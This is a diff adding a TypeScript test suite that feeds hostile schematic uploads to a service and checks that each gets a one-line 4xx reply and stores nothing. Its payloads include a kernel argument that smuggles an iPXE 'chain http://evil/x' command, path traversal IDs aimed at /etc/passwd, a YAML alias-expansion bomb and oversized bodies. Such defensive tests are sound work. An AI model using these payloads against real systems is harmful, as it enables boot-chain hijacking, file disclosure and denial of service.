@@ -1,0 +1,116 @@
+/**
+ * Hostile inputs, collected in one place (in the spirit of h3's security.test.ts). Every case must
+ * get a 4xx with a one-line text reason, never a 500 or a stack trace, and must change nothing.
+ * Later frontends add their own cases here.
+ */
+import { afterAll, beforeAll, describe, expect, test } from 'bun:test'
+import { readdirSync, existsSync } from 'node:fs'
+import { join } from 'node:path'
+import { startEdge, type RunningEdge } from '../helpers/edge.ts'
+
+let edge: RunningEdge
+beforeAll(async () => {
+  edge = await startEdge({ FACTORY_MAX_BODY_BYTES: '64KiB' })
+})
+afterAll(async () => {
+  await edge.stop()
+})
+
+function storedSchematics(): number {
+  const dir = join(edge.dataDir, 'schematics')
+  if (!existsSync(dir)) return 0
+  return readdirSync(dir, { recursive: true }).filter((f) => String(f).endsWith('.yaml')).length
+}
+
+async function expectRejected(res: Response, status = 400): Promise<string> {
+  const text = await res.text()
+  expect(res.status).toBe(status)
+  expect(res.headers.get('content-type')).toBe('text/plain; charset=utf-8')
+  expect(text.endsWith('\n')).toBe(true)
+  expect(text.trimEnd().includes('\n')).toBe(false) // one line
+  expect(text).not.toMatch(/\bat .*\.ts:\d+|node_modules|Error:/) // no stack traces
+  expect(res.headers.get('x-request-id')).toBeTruthy()
+  return text
+}
+
+const post = (body: BodyInit, headers: Record<string, string> = {}) =>
+  fetch(`${edge.url}/schematics`, { method: 'POST', body, headers })
+
+const deep = (n: number) => `${'['.repeat(n)}${']'.repeat(n)}`
+const aliasBomb = [
+  'a: &a ["x","x","x","x","x","x","x","x","x"]',
+  'b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]',
+  'c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]',
+  'd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]',
+  'e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]',
+  'f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]',
+  'g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]',
+  'overlay:\n  image: x\n  name: y\n  options:\n    bomb: [*g,*g,*g,*g,*g,*g,*g,*g,*g]',
+].join('\n')
+
+const HOSTILE: [string, string, RegExp?][] = [
+  ['malformed YAML', 'customization: [\n', /yaml|did not find|parse/i],
+  ['tab-indented YAML', 'customization:\n\textraKernelArgs: [a]\n'],
+  ['unknown top-level field', 'something: 1\n', /field something not found in type schematic\.Schematic/],
+  ['unknown nested field', 'customization:\n  extraKernelArg: [a]\n', /field extraKernelArg not found in type schematic\.Customization/],
+  ['unknown meta field', 'customization:\n  meta:\n    - key: 1\n      value: x\n      extra: y\n', /schematic\.MetaValue/],
+  ['wrong type: string for list', 'customization:\n  extraKernelArgs: x\n', /cannot construct/],
+  ['wrong type: quoted bool', 'customization:\n  secureboot:\n    includeWellKnownCertificates: "true"\n', /cannot construct/],
+  ['META key 256', 'customization:\n  meta:\n    - key: 256\n      value: x\n', /256/],
+  ['META key -1', 'customization:\n  meta:\n    - key: -1\n      value: x\n'],
+  ['negative sector size', 'customization:\n  diskImage:\n    sectorSize: -1\n'],
+  ['bootloader auto', 'customization:\n  bootloader: auto\n', /auto does not belong to BootloaderKind values/],
+  ['bootloader bogus', 'customization:\n  bootloader: lilo\n', /BootloaderKind/],
+  ['owner (community edition)', 'owner: alice\n', /owner field is only supported in Enterprise edition/],
+  ['duplicate key', 'customization:\n  extraKernelArgs: [a]\n  extraKernelArgs: [b]\n', /already defined/],
+  ['non-mapping document', '[]\n', /cannot construct !!seq into schematic\.Schematic/],
+  ['scalar document', 'hello\n'],
+  ['kernel arg with newline (would break iPXE scripts)', '{"customization":{"extraKernelArgs":["a\\nchain http://evil/x"]}}'],
+  ['kernel arg with carriage return', '{"customization":{"extraKernelArgs":["a\\rb"]}}'],
+  ['kernel arg with NUL', '{"customization":{"extraKernelArgs":["a\\u0000b"]}}'],
+  ['deeply nested flow collections', `overlay:\n  image: x\n  name: y\n  options:\n    deep: ${deep(5000)}\n`],
+  ['alias expansion bomb', aliasBomb],
+]
+
+describe('hostile schematics', () => {
+  test.each(HOSTILE)('%s → 400, nothing stored', async (_name, body, reason) => {
+    const before = storedSchematics()
+    const text = await expectRejected(await post(body))
+    if (reason) expect(text).toMatch(reason)
+    expect(storedSchematics()).toBe(before)
+  })
+
+  test('oversized body with Content-Length → 413 before reading it', async () => {
+    const before = storedSchematics()
+    const big = `customization:\n  extraKernelArgs:\n${'    - aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\n'.repeat(2000)}`
+    await expectRejected(await post(big), 413)
+    expect(storedSchematics()).toBe(before)
+  })
+
+  test('oversized chunked body (no Content-Length) → 413', async () => {
+    const chunk = new TextEncoder().encode(`# ${'x'.repeat(8190)}\n`)
+    let sent = 0
+    const stream = new ReadableStream<Uint8Array>({
+      pull(c) {
+        if (sent++ >= 20) return c.close()
+        c.enqueue(chunk)
+      },
+    })
+    const before = storedSchematics()
+    await expectRejected(await post(stream), 413)
+    expect(storedSchematics()).toBe(before)
+  })
+
+  test('invalid UTF-8 bytes → 4xx, not 500', async () => {
+    const res = await post(new Uint8Array([0x63, 0x3a, 0x20, 0xff, 0xfe, 0x0a]))
+    expect(res.status).toBeGreaterThanOrEqual(400)
+    expect(res.status).toBeLessThan(500)
+  })
+
+  test('path traversal in schematic ID → 404, no file access', async () => {
+    for (const id of ['..%2F..%2Fetc%2Fpasswd', '%2e%2e', 'a'.repeat(65), `${'a'.repeat(63)}G`]) {
+      const res = await fetch(`${edge.url}/schematics/${id}`)
+      expect([404, 400]).toContain(res.status)
+    }
+  })
+})
